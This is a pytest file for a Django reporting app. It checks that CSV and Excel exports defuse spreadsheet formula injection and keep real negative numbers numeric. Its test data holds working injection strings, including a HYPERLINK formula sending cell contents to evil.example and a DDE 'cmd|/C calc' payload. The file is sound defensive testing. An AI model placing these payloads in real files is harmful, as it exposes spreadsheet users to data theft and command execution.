"""Issue 10, finding 4: no download carries a live spreadsheet formula.

A name or sentence that starts like a formula (=HYPERLINK(…), =1+1, +1, -1, @SUM(…), or a tab or
carriage return before one) comes out of every CSV with an apostrophe in front, and out of every
.xlsx as a text cell (quote-prefixed), never as a formula; real numbers, negative ones included,
stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from luoshi_web.exports import sheet
from luoshi_web.exports.tables import Column, Table, csv_cell
from luoshi_web.org.models import OrgUnit
from luoshi_web.reports.models import Report
from luoshi_web.tracking.models import Commitment
from luoshi_web.tracking.services import progress_report_create, progress_report_verify

from . import test_compare

pytestmark = pytest.mark.django_db
pairs = test_compare.pairs  # the fixture: two years of published reports per region

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
HOSTILE = [LINK, "=1+1", "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0", "＝1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?%?")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_field(field: str) -> bool:
    """A CSV field a spreadsheet will not evaluate: no formula start, or a plain number."""
    return not field.startswith(TRIGGERS) or bool(NUMBER.fullmatch(field))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def assert_safe_csv(response) -> list[list[str]]:
    rows = csv_rows(response)
    unsafe = [field for row in rows for field in row if not safe_field(field)]
    assert not unsafe, f"formula-like CSV fields: {unsafe}"
    return rows


def workbook(response):
    assert response.status_code == 200, response.status_code
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(data))


def assert_no_formula_cells(wb) -> list:
    """Every cell of every sheet: no formula; a formula-like text is a quote-prefixed text cell."""
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type in ("s", "inlineStr"), (ws.title, cell.coordinate)
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} is not marked as text: {cell.value!r}"
                    texts.append(cell.value)
    return texts


# --- the CSV writer itself ------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert csv_cell(text) == "'" + text
    table = Table("t", "t", [Column("name", "名称"), Column("n", "数", "int")], [{"name": text, "n": -1}])
    rows = list(csv.reader(io.StringIO(table.to_csv().lstrip("\ufeff"))))
    assert rows[1] == ["'" + text, "-1"]


def test_real_numbers_stay_numbers_in_csv():
    assert csv_cell(-1, "int") == "-1" and csv_cell(Decimal("-1.5")) == "-1.5" and csv_cell(-2.5) == "-2.5"
    assert csv_cell(Decimal("-12345678.123456")) == "-12345678.123456"
    assert csv_cell("省统计局") == "省统计局" and csv_cell("5.5%以内") == "5.5%以内"


# --- public, dashboard and bulletin CSV; bulletin .xlsx ---------------------------------------

def hostile_province(province):
    """Formula-like names in every text a table shows, and a real negative latest value."""
    w = province.world
    OrgUnit.objects.filter(pk=w.unit_a.pk).update(name="@SUM(A1:A9)")
    OrgUnit.objects.filter(pk=w.unit_b.pk).update(name="-1")
    Commitment.objects.filter(pk=w.c_pub.pk).update(indicator=LINK, category="+1")
    Commitment.objects.filter(pk=province.over.pk).update(indicator="=1+1", category="\t=1+1")
    Commitment.objects.filter(pk=province.behind.pk).update(indicator="-2+3+cmd|' /C calc'!A0")
    p = progress_report_create(user=w.su, assignment=w.a_pub, as_of=date(2024, 6, 10), value=Decimal("-3"),
                               narrative="=1+1 说明以等号开头")
    progress_report_verify(user=w.su, progress=p)


def test_public_csv_neutralises_formulas_and_keeps_negative_numbers(client, province):
    hostile_province(province)
    w = province.world
    url = reverse("public_region_year", args=[w.hunan.pk, 2024]) + "?table=commitments&format=csv"
    rows = assert_safe_csv(client.get(url))
    header, row = rows[0], rows[1]
    assert row[header.index("指标/任务")] == "'" + LINK
    assert row[header.index("类别")] == "'+1"
    assert row[header.index("最新进展")] == "'=1+1 说明以等号开头"
    assert row[header.index("最新完成值")] == "-3", "a real negative number stays a number"


def test_dashboard_csv_neutralises_formulas(province):
    hostile_province(province)
    w = province.world
    su = w.client(w.su)
    base = reverse("dashboard", args=[w.hunan.pk, 2024]) + "?as_of=2024-06-30"
    seen = []
    for table in ("status", "categories", "units", "trend", "chase"):
        seen += [f for row in assert_safe_csv(su.get(f"{base}&table={table}&format=csv")) for f in row]
    assert "'=1+1" in seen and "'@SUM(A1:A9)" in seen and "'-1" in seen


def test_bulletin_csv_and_workbook_neutralise_formulas(province):
    hostile_province(province)
    w = province.world
    su = w.client(w.su)
    base = reverse("bulletin", args=[w.hunan.pk, 2024, 6])
    seen = []
    for table in ("summary", "units", "lagging"):
        seen += [f for row in assert_safe_csv(su.get(f"{base}?table={table}&format=csv")) for f in row]
    assert "'=1+1" in seen and "'-1" in seen and "'-2+3+cmd|' /C calc'!A0" in seen
    wb = workbook(su.get(reverse("bulletin_xlsx", args=[w.hunan.pk, 2024, 6])))
    texts = assert_no_formula_cells(wb)
    assert "=1+1" in texts and "@SUM(A1:A9)" in texts and "-1" in texts
    lagging = wb["滞后任务清单"]
    assert lagging.cell(row=3, column=2).value == "=1+1"  # the text as written, not its result
    assert isinstance(wb["总体情况"].cell(row=3, column=2).value, int), "counts stay numbers"


# --- the 分工表 ---------------------------------------------------------------------------------

def test_assignment_sheet_writes_formula_like_text_as_text_and_reads_it_back(world):
    w = world
    Report.objects.filter(pk=w.internal_report.pk).update(title="=1+1")
    Commitment.objects.filter(pk=w.c_a.pk).update(indicator=LINK, category="+1")
    Commitment.objects.filter(pk=w.c_b.pk).update(indicator="-1", category="@SUM(A1:A9)", value=Decimal("-5"),
                                                  comparator="exact", unit="-亿斤")
    OrgUnit.objects.filter(pk=w.unit_b.pk).update(name="=HYPERLINK(\"http://evil.example\")")
    su = w.client(w.su)
    response = su.get(reverse("sheet_export", args=[w.internal_report.pk]))
    wb = workbook(response)
    texts = assert_no_formula_cells(wb)
    assert {LINK, "+1", "-1", "@SUM(A1:A9)", "-亿斤", "=HYPERLINK(\"http://evil.example\")"} <= set(texts)
    ws = wb[sheet.SHEET]
    target_col = sheet.HEADERS.index("目标值") + 1
    id_col = sheet.HEADERS.index("任务编号（勿改）") + 1
    row = next(r for r in range(4, ws.max_row + 1) if ws.cell(r, id_col).value == w.c_b.pk)
    assert ws.cell(row, target_col).value == -5 and ws.cell(row, target_col).data_type == "n"
    # the office uploads the file unchanged: the texts read back as written, so nothing changes
    out = io.BytesIO()
    wb.save(out)
    upload = SimpleUploadedFile("分工表.xlsx", out.getvalue(), content_type=XLSX)
    response = su.post(reverse("sheet_upload", args=[w.internal_report.pk]), {"file": upload})
    assert response.status_code == 302, response.content.decode()[:2000]
    from luoshi_web.exports.models import SheetImport

    si = SheetImport.objects.get()
    assert si.n_errors == 0 and si.n_changes == 0, si.rows


# --- 兑现对照 CSV -----------------------------------------------------------------------------

def test_compare_csv_neutralises_formulas_and_keeps_negative_numbers(client, pairs):
    target = Commitment.objects.get(report=pairs.hunan_2025, kind="target", indicator__startswith="城乡居民收入")
    Commitment.objects.filter(pk=target.pk).update(indicator="=1+1", text="@SUM(A1:A9)")
    rows = assert_safe_csv(client.get(reverse("compare:report_download", args=[pairs.hunan_2025.pk, "csv"])))
    header = rows[0]
    fields = [f for row in rows[1:] for f in row]
    assert "'=1+1" in fields and "'@SUM(A1:A9)" in fields
    deltas = [row[header.index("delta")] for row in rows[1:]]
    assert "-1.4" in deltas, "a real negative gap stays a number"


def test_formula_guard_doctests():
    import doctest

    from luoshi_web.exports import formulas, tables

    for module in (formulas, tables):
        result = doctest.testmod(module)
        assert result.attempted > 0 and result.failed == 0, module.__name__
